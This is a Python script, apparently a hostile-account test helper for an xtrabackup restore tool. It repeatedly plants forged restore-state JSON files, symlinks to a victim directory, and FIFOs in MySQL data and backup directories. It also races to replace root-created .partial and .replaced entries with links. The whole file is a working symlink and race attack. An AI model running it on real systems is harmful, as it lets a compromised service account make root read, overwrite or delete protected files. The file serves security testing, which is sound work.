# Copyright (c) 2026 the innodb.xtrabackup authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Code that has taken over the server's account: it plants links, markers and FIFOs wherever it can write, again and
again, to have root read, write, remove, move or give away what is in VICTIM.

Whatever it plants keeps the server itself running.
"""

from __future__ import annotations

import contextlib
import glob
import json
import os
import sys
import time

VICTIM = "/srv/victim"
TREES = "/var/lib/mysql*"
#: a directory of backups that belongs to the account
BACKUPS = "/srv/theirs"
PAUSE = 0.02

IN_PROGRESS = {
    "format": 1,
    "id": "planted",
    "source_sha256": "0" * 64,
    "source": VICTIM,
    "datadir": "/var/lib/mysql",
    "method": "move",
    "phase": "publishing",
    "aside": [[VICTIM, "/srv/victim.aside"]],
    "outside": [[f"{VICTIM}/secret", "/var/lib/mysql/stolen"]],
    "unpacked": VICTIM,
}
RESTORED = {
    "format": 1,
    "id": "planted",
    "manifest_sha256": "0" * 64,
    "source": VICTIM,
    "method": "move",
    "finished_at": "2026-01-01T00:00:00Z",
    "backup": {"id": "planted"},
    "outside": [VICTIM],
}
LINKS = {
    ".xtrabackup-restore": VICTIM,
    ".xtrabackup-unpacked": VICTIM,
    ".xtrabackup-scratch": VICTIM,
    "xtrabackup_info": f"{VICTIM}/secret",
    "xtrabackup_prepare_in_progress": f"{VICTIM}/secret",
    "xtrabackup_manifest.json.new": f"{VICTIM}/secret",
}
IN_DATABASES = {"planted.MYD": f"{VICTIM}/secret", "planted.MYI": f"{VICTIM}/secret", "planted.ibd": f"{VICTIM}/secret"}


def plant(directory: str) -> None:
    """Plant everything in ``directory`` that can be planted there."""
    for name, content in (
        ("xtrabackup_restore_in_progress.json", IN_PROGRESS),
        ("xtrabackup_restored.json", RESTORED),
    ):
        with contextlib.suppress(OSError), open(os.path.join(directory, name), "w", encoding="utf-8") as file:
            json.dump(content, file)
    for name, target in LINKS.items():
        link(target, os.path.join(directory, name))
    with contextlib.suppress(OSError):
        os.mkfifo(os.path.join(directory, ".xtrabackup-restore.lock"))


def link(target: str, path: str) -> None:
    """Put a link at ``path``, in place of whatever is there."""
    with contextlib.suppress(OSError):
        os.rename(path, path + ".was")
    with contextlib.suppress(OSError):
        os.symlink(target, path)


def swap() -> None:
    """Put links in the place of what root makes in a directory of ours, as soon as it is there."""
    number = 0
    while True:
        for name in os.listdir(BACKUPS):
            path = os.path.join(BACKUPS, name)
            if name.endswith((".partial", ".replaced")) and not os.path.islink(path):
                number += 1
                with contextlib.suppress(OSError):
                    os.rename(path, f"{path}.was{number}")
                    os.symlink(VICTIM, path)


def main(kinds: set[str]) -> None:
    """Plant in the data directory and all that has its name (``top``), and in databases (``databases``); or swap
    directories (``swap``)."""
    if "swap" in kinds:
        swap()
    while True:
        for top in glob.glob(TREES):
            if "top" in kinds and os.path.isdir(top) and not os.path.islink(top):
                plant(top)
            database = os.path.join(top, "load_test")
            if "databases" in kinds and os.path.isdir(database):
                for name, target in IN_DATABASES.items():
                    link(target, os.path.join(database, name))
                with contextlib.suppress(OSError):
                    os.mkfifo(os.path.join(database, "waits.MYI"))
        time.sleep(PAUSE)


if __name__ == "__main__":
    main(set(sys.argv[1:]))
